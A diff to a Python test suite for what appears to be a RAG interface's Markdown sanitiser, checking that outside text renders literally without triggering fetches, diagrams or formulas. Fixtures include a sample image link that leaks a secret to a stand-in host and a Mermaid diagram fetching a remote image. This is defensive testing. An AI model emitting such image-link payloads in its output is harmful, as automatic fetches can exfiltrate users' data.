@@ -3,13 +3,13 @@
 from __future__ import annotations
 
 import pytest
+from hostile import HOSTILE
 from hypothesis import given
 from hypothesis import strategies as st
-from markdown_it import MarkdownIt
+from streamlit_markdown import PLAIN, READER, acts, fetches, runs
 
-from ragfilter.ui.prose import quoted, written
+from ragfilter.ui.prose import literal, message, quoted, written
 
-READER = MarkdownIt("gfm-like", {"linkify": False, "html": False})
 FETCHES = (
     "![px](http://x/leak.png?q=secret)",
     "[here](http://x)",
@@ -72,12 +72,54 @@ def test_a_model_may_format(text: str, shown: str) -> None:
     ],
 )
 def test_a_quotation_stays_to_the_letter(text: str) -> None:
-    assert kinds(quoted(text)) <= {
-        "paragraph_open",
-        "paragraph_close",
-        "inline",
-        "text",
-        "softbreak",
-        "text_special",
-    }
-    assert "".join(words(quoted(text)).split()) == "".join(text.split())
+    assert kinds(quoted(text)) <= PLAIN
+    shown = words(quoted(text)).replace("\u2060", "")
+    assert "".join(shown.split()) == "".join(text.split())
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_text_from_outside_stays_to_the_letter_and_does_nothing(text: str) -> None:
+    for made in (literal(text), quoted(text)):
+        assert acts(made) == set()
+    assert fetches(written(text)) == set()
+    assert "\n" not in literal(text)
+    shown = " ".join(runs(literal(text))).replace("\u2060", "")
+    assert " ".join(shown.split()) == " ".join(text.split())
+
+
+@given(
+    st.text(alphabet="![](){}<>:/\\\"'@$&#`*_~|+=-. \n\twax1", max_size=30),
+    st.sampled_from(HOSTILE),
+)
+def test_no_text_around_it_makes_it_act(text: str, hostile: str) -> None:
+    for whole in (text + hostile, hostile + text, text):
+        assert acts(f"Open {literal(whole)}.") == set()
+        assert acts(literal(whole)) == set()
+
+
+def test_an_everyday_title_gets_no_invisible_sign() -> None:
+    for title in ("Level 7-9: 10; AC −3.", "auth-api:TokenRequest", "10:30 (a/b), c.d"):
+        assert literal(title).replace("\\", "") == title
+
+
+def test_a_message_keeps_its_commands() -> None:
+    assert message("No *x*: run `ragfilter index a_b` first") == (
+        r"No \*x\*: run `ragfilter index a_b` first"
+    )
+    for text in HOSTILE:
+        assert acts(message(f"There is no {text!r}.")) <= {"code_inline"}
+
+
+@pytest.mark.parametrize(
+    "fence",
+    ["```mermaid\n{}\n```", "~~~~ Mermaid x\n{}\n~~~~", "> ```&#109;ermaid\n> {}\n> ```"],
+)
+def test_no_diagram_is_drawn(fence: str) -> None:
+    text = fence.format('flowchart\na@{ img: "http://zqx.example/a.png" }')
+    assert "diagram" in fetches(text)
+    assert fetches(written(text)) == set()
+
+
+@pytest.mark.parametrize("text", ["$x$", r"\$x\$", r"\\$x\\$", "$$x$$"])
+def test_no_formula_is_set(text: str) -> None:
+    assert "formula" not in acts(written(text))
